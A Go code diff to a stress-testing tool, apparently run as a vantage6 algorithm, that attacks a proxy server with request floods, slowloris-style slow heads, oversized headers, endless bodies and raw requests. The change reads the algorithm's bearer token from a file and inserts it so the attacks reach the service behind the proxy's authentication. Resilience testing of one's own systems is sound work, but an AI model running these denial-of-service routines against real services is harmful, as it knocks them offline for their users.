@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"io"
 	"net"
+	"os"
 	"strings"
 	"sync"
 	"time"
@@ -17,7 +18,10 @@ import (
 //	flood    requests as fast as they are answered        idle     connections that never say anything
 //	slow     a request's head, a byte a second            headers  a request with a head of 10 MB
 //	body     a request whose body never ends              garbage  bytes that are no protocol at all
-//	raw      the request in "text", sent once as it is
+//	raw      each request of "texts", sent once as it is, but for {token}
+//
+// Flood, slow and headers come with the algorithm's own token, so that what is behind the proxy's look at it is attacked too. An
+// endless body comes without: with it the server itself would be the one that takes it.
 func attack(t *task) error {
 	kinds := map[string]func(net.Conn, time.Time) string{
 		"flood": flood, "idle": idle, "slow": slow, "headers": headers, "body": body, "garbage": garbage,
@@ -73,7 +77,14 @@ func open(t *task, end time.Time) (net.Conn, error) {
 	return connection, nil
 }
 
-// raw sends each request of a list on a connection of its own; what comes back, up to 2 kB of it, or why nothing does.
+// token is the algorithm's own, from the file that vantage6 names.
+var token = sync.OnceValue(func() string {
+	text, _ := os.ReadFile(variable("TOKEN_FILE"))
+	return strings.TrimSpace(string(text))
+})
+
+// raw sends each request of a list on a connection of its own, with the algorithm's token in the place of {token}; what comes back, up
+// to 2 kB of it, or why nothing does.
 func raw(t *task, end time.Time) []string {
 	answers := []string{}
 	texts, _ := t.Kwargs["texts"].([]any)
@@ -84,7 +95,7 @@ func raw(t *task, end time.Time) []string {
 			continue
 		}
 		connection.SetDeadline(time.Now().Add(3 * time.Second))
-		io.WriteString(connection, fmt.Sprint(text))
+		io.WriteString(connection, strings.ReplaceAll(fmt.Sprint(text), "{token}", token()))
 		answer, err := io.ReadAll(io.LimitReader(connection, 2048))
 		connection.Close()
 		if len(answer) == 0 && err != nil {
@@ -95,13 +106,16 @@ func raw(t *task, end time.Time) []string {
 	return answers
 }
 
-const request = "GET /version HTTP/1.1\r\nHost: proxyserver\r\n"
+// request is all of a head but its end.
+func request() string {
+	return "GET /version HTTP/1.1\r\nHost: proxyserver\r\nAuthorization: Bearer " + token() + "\r\n"
+}
 
 func flood(connection net.Conn, end time.Time) string {
 	answers := bufio.NewReader(connection)
 	last := "nothing"
 	for time.Now().Before(end) {
-		if _, err := io.WriteString(connection, request+"\r\n"); err != nil {
+		if _, err := io.WriteString(connection, request()+"\r\n"); err != nil {
 			return last + ", then " + reason(err)
 		}
 		line, err := answers.ReadString('\n')
@@ -120,7 +134,7 @@ func flood(connection net.Conn, end time.Time) string {
 func idle(connection net.Conn, _ time.Time) string { return ending(connection) }
 
 func slow(connection net.Conn, end time.Time) string {
-	for _, letter := range []byte(request + "X-Slow: " + strings.Repeat("x", 3600)) {
+	for _, letter := range []byte(request() + "X-Slow: " + strings.Repeat("x", 3600)) {
 		if _, err := connection.Write([]byte{letter}); err != nil || time.Now().After(end) {
 			return ending(connection)
 		}
@@ -130,7 +144,7 @@ func slow(connection net.Conn, end time.Time) string {
 }
 
 func headers(connection net.Conn, _ time.Time) string {
-	if _, err := io.WriteString(connection, request); err != nil {
+	if _, err := io.WriteString(connection, request()); err != nil {
 		return reason(err)
 	}
 	line := "X-Large: " + strings.Repeat("x", 8000) + "\r\n"
